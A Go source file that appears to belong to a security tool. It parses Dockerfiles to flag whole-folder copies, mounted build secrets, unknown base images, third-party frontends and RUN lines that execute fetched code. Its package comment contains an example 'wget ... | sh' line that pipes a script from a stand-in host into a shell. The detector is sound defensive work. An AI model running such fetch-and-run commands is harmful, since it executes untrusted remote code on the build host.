// Package dockerfile reads Dockerfiles (Dockerfile reference, 1.10).
//
// A text comes in, a File goes out: what of the folder comes into the image, on whose image it builds, and
// each RUN line with what it would do. For example
//
//	FROM alpine
//	COPY . /app
//	RUN wget -qO- https://x.example/i | sh
//
// takes the whole folder, and its RUN line runs what it fetches. Commands of RUN lines are not taken apart as
// the shell would: telling words are looked for. Nothing is fetched or built.
package dockerfile

import (
	"path"
	"slices"
	"strings"

	"guard/internal/lazy"
)

// File is what a Dockerfile says.
type File struct {
	Takes     bool     // files of the folder come into the image
	TakesAll  bool     // the whole folder does, or what is not told by its name
	Lent      bool     // RUN lines see secrets or keys that the build was given
	Names     []string // words of COPY and ADD; options and the target are among them
	Frontends []string // programs of strangers that read the file in Docker's stead
	Stranger  string   // an image that nobody knows, on which it builds; empty: none
	Runs      []Run
}

// Run is a RUN line.
type Run struct {
	Text    string // without the word RUN
	Fetched bool   // it runs what it, or a line before it, has fetched
	Packed  bool   // it shows what it, or a line before it, has packed
}

// Sends reports uploads, which RUN lines of everyday builds do not have.
func (r Run) Sends() bool { return sends().MatchString(r.Text) }

// Prints reports a line that shows the contents of many files on the build's output.
func (r Run) Prints() bool { return r.Packed || prints().MatchString(r.Text) || packsOut(r.Text) }

// maxMatches bounds how many instructions of a kind are read.
const maxMatches = 500

// Read reads the text of a Dockerfile.
func Read(text string) File {
	text = joined(text)
	mounts := mountsFolder(text)
	f := File{Takes: mounts, TakesAll: mounts, Lent: mountsSecrets(text)}
	for _, m := range copied().FindAllStringSubmatch(text, maxMatches) {
		f.copies(m[1], text)
	}
	for _, m := range frontend().FindAllStringSubmatch(text, maxMatches) {
		if !strings.HasPrefix(m[1], "docker/dockerfile") && !strings.HasPrefix(m[1], "docker.io/docker/dockerfile") {
			f.Frontends = append(f.Frontends, m[1])
		}
	}
	for _, m := range image().FindAllStringSubmatch(text, maxMatches) {
		if !known(m[1], text) {
			f.Stranger = m[1]
		}
	}
	f.runs(text)
	return f
}

// joined is a text whose lines that go on are one (Dockerfile reference, "escape").
func joined(text string) string {
	return goesOn().ReplaceAllString(strings.ReplaceAll(text, "\r\n", "\n"), " ")
}

// copies reads the words of COPY or ADD.
func (f *File) copies(words, text string) {
	if from := fromName().FindStringSubmatch(words); from != nil {
		if strings.ContainsAny(from[1], ":/.$") || number().MatchString(from[1]) ||
			strings.Contains(strings.ToLower(text), " as "+strings.ToLower(from[1])) {
			return // out of another image; any other name is that of a folder which the build was given
		}
		words = strings.Replace(words, from[0], "", 1)
	}
	f.Takes = true
	for _, one := range strings.FieldsFunc(words, func(r rune) bool { return strings.ContainsRune(" \t\",[]=", r) }) {
		f.Names = append(f.Names, one)
		f.TakesAll = f.TakesAll || path.Clean(one) == "." || strings.ContainsAny(one, "$*?[")
	}
}

// runs reads the RUN lines.
func (f *File) runs(text string) {
	var fetched, packed []string
	for _, m := range added().FindAllStringSubmatch(text, maxMatches) {
		fetched = append(fetched, path.Base(m[1]), path.Base(m[2]))
	}
	for line := range strings.SplitSeq(text, "\n") {
		run, ok := runLine(line)
		if !ok {
			continue
		}
		for _, m := range saved().FindAllStringSubmatch(run, maxMatches) {
			fetched = append(fetched, path.Base(m[1]+m[2]))
		}
		runsIt := piped().MatchString(run) ||
			slices.ContainsFunc(fetched, func(name string) bool { return starts(run, name) })
		packed = append(packed, packs(run)...)
		f.Runs = append(f.Runs, Run{run, runsIt, showsAny(run, packed)})
	}
}

// runLine is what a RUN instruction runs; lines of a here-document count as well.
func runLine(line string) (string, bool) {
	word, rest, _ := strings.Cut(strings.TrimSpace(line), " ")
	switch strings.ToUpper(word) {
	case "RUN", "ONBUILD":
		return rest, true
	case "FROM", "COPY", "ADD", "ENV", "ARG", "LABEL", "WORKDIR", "CMD", "ENTRYPOINT", "EXPOSE", "USER", "VOLUME",
		"HEALTHCHECK",
		"SHELL", "STOPSIGNAL", "MAINTAINER", "#", "":
		return "", false
	}
	return line, !strings.HasPrefix(word, "#")
}

// starts reports a RUN line that starts a fetched file, or hands it to an interpreter.
func starts(run, name string) bool {
	if len(name) < 1 || name == "." || name == "/" {
		return false
	}
	for _, part := range strings.FieldsFunc(run, func(r rune) bool { return strings.ContainsRune(";&|()[]\",", r) }) {
		words := strings.Fields(part)
		for len(words) > 1 && slices.Contains(interpreters, path.Base(words[0])) {
			words = words[1:]
		}
		if len(words) > 0 && path.Base(words[0]) == name {
			return true
		}
	}
	return false
}

// interpreters hand on to the file that they are given.
var interpreters = strings.Fields(`
	sh bash zsh dash ash ksh python python2 python3 node perl ruby php lua bun deno java exec source . env sudo`)

var (
	goesOn   = lazy.Pattern("[\\\\`][ \\t]*\n(?:[ \\t]*#[^\n]*\n)*")
	copied   = lazy.Pattern(`(?im)^\s*(?:ONBUILD\s+)?(?:COPY|ADD)\s+((?:--\S+\s+)*.*)$`)
	fromName = lazy.Pattern(`--from=["']?([^\s"']+)["']?`)
	number   = lazy.Pattern(`^\d+$`)
	frontend = lazy.Pattern(`(?im)^\s*(?:#|//)\s*syntax\s*=\s*(\S+)`)
	image    = lazy.Pattern(`(?im)^\s*FROM\s+(?:--\S+\s+)*(\S+)`)
	added    = lazy.Pattern(`(?im)^\s*(?:ONBUILD\s+)?ADD\s+(?:--\S+\s+)*\[?"?(\w+://[^\s",]+)[",\s]+([^\s"\]]+)`)
)
